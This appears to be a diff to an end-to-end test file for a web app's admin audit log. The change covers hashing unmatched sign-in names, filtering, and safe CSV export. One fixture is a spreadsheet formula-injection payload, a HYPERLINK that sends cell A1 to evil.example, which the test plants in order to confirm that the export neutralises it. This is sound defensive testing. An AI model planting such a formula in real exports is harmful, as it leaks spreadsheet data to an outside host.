@@ -1,15 +1,20 @@
+import { randomUUID } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
+import { deriveTypedNameKey, typedNameSubject } from '@/lib/audit/typed-name';
+import { E2E_AUTH_SECRET } from '../../playwright.config';
 import { expect, test } from './support/test';
 import { sql } from './support/database';
 import { createOwnUser, signInOwnUser } from './support/own-user';
-import { expectNoAxeViolations } from './support/sign-in';
+import { expectNoAxeViolations, submitPassword } from './support/sign-in';
 
 // The admin's audit log (issue 5, RC-06): filter by user, event and time, page, export as CSV
 // with formula cells neutralised (CSV-04); admins only.
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+/** What the servers store for a username that matches no account (lib/audit/typed-name.ts). */
+const hashedName = (typed: string) => typedNameSubject(deriveTypedNameKey(E2E_AUTH_SECRET), typed);
 
-/** 60 events for `userId`, one a minute from 2030-03-01 10:00 UTC, alternating two kinds, and one failed sign-in typed as `typed`. */
+/** 60 events for `userId`, one a minute from 2030-03-01 10:00 UTC, alternating two kinds, and one failed sign-in typed as `typed` (stored hashed). */
 async function seedEvents(userId: string, typed: string) {
   await sql(
     `INSERT INTO "AuditEvent" (id, type, "userId", ip, "createdAt")
@@ -21,7 +26,7 @@ async function seedEvents(userId: string, typed: string) {
   await sql(
     `INSERT INTO "AuditEvent" (id, type, subject, ip, "userAgent", detail, "createdAt")
      VALUES ($1, 'signin.password_failed', $2, '203.0.113.66', $3, '{"reason":"unknown-user"}', timestamptz '2030-03-01 11:30:00+00')`,
-    [`e2e-audit-${userId}-typed`, typed, FORMULA],
+    [`e2e-audit-${userId}-typed`, hashedName(typed), FORMULA],
   );
 }
 
@@ -47,7 +52,7 @@ test('an admin filters the audit log by user, event and time, pages through it, 
   );
   const firstRow = page.getByRole('row').nth(1);
   await expect(firstRow).toContainText('signin.password_failed');
-  await expect(firstRow).toContainText(`typed: ${audited.username.toUpperCase()}`);
+  await expect(firstRow).toContainText(`typed: ${audited.username} (matched by its hash)`);
   await expect(firstRow).toContainText('reason: unknown-user');
   await page.getByRole('link', { name: 'Next page' }).click();
   await expect(page.getByRole('status').filter({ hasText: 'Showing' })).toHaveText(
@@ -82,9 +87,9 @@ test('an admin filters the audit log by user, event and time, pages through it, 
   expect(download.suggestedFilename()).toMatch(/^audit-log-\d{8}-\d{4}\.csv$/);
   const csv = await readFile(await download.path(), 'utf8');
   const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
-  expect(lines[0]).toBe('time_utc,event,username,typed_username,ip,user_agent,details');
+  expect(lines[0]).toBe('time_utc,event,username,typed_username_hash,ip,user_agent,details');
   expect(lines[1]).toBe(
-    `2030-03-01T11:30:00.000Z,signin.password_failed,,${audited.username.toUpperCase()},203.0.113.66,"'${FORMULA.replace(/"/g, '""')}","{""reason"":""unknown-user""}"`,
+    `2030-03-01T11:30:00.000Z,signin.password_failed,,${hashedName(audited.username.toUpperCase())},203.0.113.66,"'${FORMULA.replace(/"/g, '""')}","{""reason"":""unknown-user""}"`,
   );
   expect(lines.slice(2)).toEqual(['']);
 
@@ -111,6 +116,33 @@ test('RC-06 the sign-in an admin just made is in the log, without the code or th
     expect(text).not.toMatch(new RegExp(`(?<!\\d)${code}(?!\\d)`));
     expect(text).not.toContain(admin.password);
   }
+});
+
+test('RC-06 a name typed at sign-in that matches no account is stored only as a keyed hash, and the search by that name still finds the failed sign-in', async ({
+  page,
+  browser,
+}) => {
+  // A password typed into the username field by mistake.
+  const typed = `Hunter2-${randomUUID().slice(0, 8)}`;
+  await submitPassword(page, typed, 'anything at all');
+  await expect(page.getByRole('alert').filter({ hasText: 'incorrect' })).toBeVisible();
+  const { rows } = await sql(
+    `SELECT count(*)::int AS n FROM "AuditEvent"
+     WHERE concat_ws(' ', subject, ip, "userAgent", detail::text) ILIKE '%' || $1 || '%'`,
+    [typed],
+  );
+  expect(rows[0].n).toBe(0);
+
+  const adminContext = await browser.newContext();
+  const admin = await adminContext.newPage();
+  await signInOwnUser(admin, await createOwnUser('hash-auditor', { role: 'admin' }));
+  await admin.goto(`/admin/audit?user=${encodeURIComponent(typed.toLowerCase())}`);
+  const firstRow = admin.getByRole('row').nth(1);
+  await expect(firstRow).toContainText('signin.password_failed');
+  await expect(firstRow).toContainText(`typed: ${typed.toLowerCase()} (matched by its hash)`);
+  await admin.goto('/admin/audit?type=signin.password_failed');
+  await expect(admin.getByText(`typed name, hash ${hashedName(typed).slice(8)}`)).toBeVisible();
+  await adminContext.close();
 });
 
 test('the audit log and its export are for admins only: "not found" for a user, sign-in for a stranger', async ({
